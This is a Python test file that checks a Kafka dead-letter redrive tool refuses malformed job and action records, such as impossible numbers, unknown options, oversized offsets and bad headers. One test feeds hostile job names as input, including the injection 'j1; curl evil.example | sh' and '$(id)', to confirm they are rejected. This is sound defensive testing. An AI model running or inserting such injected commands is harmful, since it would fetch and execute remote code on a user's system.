"""A user with Write on the topics of jobs and actions can write anything: it is read, or refused with a clear error."""

import base64
import json
import tracemalloc
import zlib
from contextlib import suppress
from math import inf, nan
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kafka_redelivery.topology.errors import ExportedLetterError, RedriveRecordError
from kafka_redelivery.topology.java.numbers import LONG_MAX
from kafka_redelivery.topology.redrive.actions import ActionLog, ChunkProgress, progress_record, read_action
from kafka_redelivery.topology.redrive.exported import ExportedLetter
from kafka_redelivery.topology.redrive.job import CHUNK, JobLog
from kafka_redelivery.topology.redrive.offset_set import read_part
from tests.examples import share

_JOB: dict[str, Any] = {
    "type": "job",
    "atMs": 1,
    "by": "me",
    "seen": 0,
    "options": {"group": "billing"},
    "selection": {},
    "slices": [{"topic": "DLQ.orders", "partition": 0}],
}
_PROGRESS: dict[str, Any] = {"type": "progress", "through": 1, "sent": 1, "gone": [], "parked": [], "refused": []}
_EXPORTED: dict[str, Any] = {"id": "DLQ.orders-0@1", "timestampMs": 1, "key": None, "value": None, "headers": []}
_NO_NUMBERS: list[object] = [inf, nan, 1.5, "1", True, None, -2, LONG_MAX + 1, 10**400, [1]]


def _text(fields: dict[str, Any]) -> bytes:
    return json.dumps({"version": 1, **fields}).encode()


def _is_refused_as_job(**changed: object) -> None:
    with pytest.raises(RedriveRecordError, match=r"^the record b'j1' of the redrive jobs cannot be read"):
        JobLog().add(0, b"j1", _text(_JOB | changed))


def _is_refused_as_action(key: bytes = b"j1/0", **changed: object) -> None:
    with pytest.raises(RedriveRecordError, match="of the redrive jobs cannot be read") as caught:
        ActionLog().add(key, _text(_PROGRESS | {"end": None} | changed))
    assert len(str(caught.value)) < 500


@pytest.mark.parametrize("value", _NO_NUMBERS)
def test_a_number_that_kafka_cannot_have(value: object) -> None:
    """It ends the reading with an error of ours, not with one of Python."""
    _is_refused_as_job(atMs=value)
    _is_refused_as_job(seen=value)
    _is_refused_as_job(slices=[{"topic": "DLQ.orders", "partition": value}])
    _is_refused_as_action(through=value)
    _is_refused_as_action(sent=value)
    _is_refused_as_action(gone=[value])
    _is_refused_as_action(type="outcome", offset=value, outcome="recovered")
    with pytest.raises(ExportedLetterError):
        ExportedLetter.parse(_text(_EXPORTED | {"timestampMs": value}))


@pytest.mark.parametrize("digits", ["9" * 30, "9" * 5000, "-1", "x", ""])
def test_a_slice_that_no_job_has(digits: str) -> None:
    """Its number is part of the key."""
    _is_refused_as_action(f"j1/{digits}".encode())


@pytest.mark.parametrize(
    "option",
    [
        {"group": 5},
        {"to": ["payments"]},
        {"ready": 1},
        {"discard": 1},
        {"keep_attempts": "yes"},
        {"again": None},
        {"max_redrives": 0},
        {"max_redrives": None},
        {"rate": 0},
        {"rate": -1},
        {"rate": inf},
        {"rate": nan},
        {"rate": 10**400},
        {"rate": 1e-300},
        {"rate": "fast"},
        {"mapping": "topic"},
        {"mapping": ["topic"]},
        {"mapping": {"topic": 5}},
        {"system": None},
    ],
)
def test_an_option_that_no_command_has_written(option: dict[str, object]) -> None:
    """It would stop the job at its first letter, or hold it for ever."""
    _is_refused_as_job(options={"group": "billing", **option})


@pytest.mark.parametrize(
    "key", [b"", b"j1; curl evil.example | sh", b"$(id)", b"j1' or true", b"j1\n", "é".encode(), b"j" * 65]
)
def test_a_name_that_no_job_has(key: bytes) -> None:
    """People would copy it into a shell, with the command that goes on with the job."""
    log = JobLog()
    with pytest.raises(RedriveRecordError, match="no name of a job"):
        log.add(0, key, _text(_JOB))
    assert not log.jobs


def test_options_of_a_newer_version_are_ignored() -> None:
    """A job of this form can be read."""
    log = JobLog()
    log.add(0, b"j1", _text(_JOB | {"options": {"group": "billing", "rate": 5, "colour": "red"}}))
    assert log.jobs["j1"].spec.options.rate == 5


@pytest.mark.parametrize("data", [b"\xff" * 600_000 + b"\x01", b"\xff" * 9 + b"\x01", b"\xff" * 8 + b"\x7f\x01"])
def test_offsets_beyond_those_of_kafka(data: bytes) -> None:
    """A kilobyte that unpacks to one number of 600 kB is refused at its tenth byte; it took seconds before."""
    part = base64.b64encode(zlib.compress(data)).decode()
    tracemalloc.start()
    try:
        with pytest.raises(ValueError, match="offset"):
            read_part(part)
        assert tracemalloc.get_traced_memory()[1] < 16 * 2**20
    finally:
        tracemalloc.stop()


def test_the_largest_offset_can_be_read() -> None:
    """It takes nine bytes."""
    assert read_part(base64.b64encode(zlib.compress(b"\xff" * 8 + b"\x7f")).decode()) == [LONG_MAX]


def test_a_header_that_kafka_cannot_have() -> None:
    """JSON can name half a character, UTF-8 cannot."""
    with pytest.raises(ExportedLetterError, match="surrogates"):
        ExportedLetter.parse(_text(_EXPORTED | {"headers": [["\ud800", None]]}))


_ANYTHING = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(st.characters()) | st.sampled_from(_NO_NUMBERS),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=6,
)


@given(st.data(), st.binary(max_size=12))
def test_anything_is_read_or_refused(data: st.DataObject, key: bytes) -> None:
    """Each record differs from one of ours in some fields."""
    for fields in (_JOB, _PROGRESS | {"end": None}, {"type": "letters", "slice": 0, "offsets": ""}, _EXPORTED):
        changed = data.draw(st.dictionaries(st.sampled_from(list(fields)), _ANYTHING, max_size=2))
        value = _text(fields | changed)
        jobs, actions = JobLog(), ActionLog()
        jobs.add(0, b"j1", _text(_JOB))
        for each in (b"j1", key):
            with suppress(RedriveRecordError):
                jobs.add(1, each, value)
        jobs.settle()
        for each in (b"j1/0", key):
            with suppress(RedriveRecordError):
                actions.add(each, value)
        with suppress(ExportedLetterError):
            ExportedLetter.parse(value)


@settings(max_examples=share(20), deadline=None)
@given(st.text(), st.integers(1, 5000))
def test_reasons_are_cut(text: str, times: int) -> None:
    """A header of the letter may be in them: a chunk of refused letters fits into a record of a megabyte."""
    chunk = ChunkProgress(through=CHUNK, refused=dict.fromkeys(range(CHUNK), text * times))
    value = progress_record("j1", 0, chunk, 1).value
    assert len(value) < 800_000
    action = read_action(b"j1/0", value)
    assert action is not None
    assert isinstance(action.what, ChunkProgress)
    (reason,) = set(action.what.refused.values())
    assert (text * times).startswith(reason)
    assert reason == text * times or len(json.dumps(reason)) > 1450
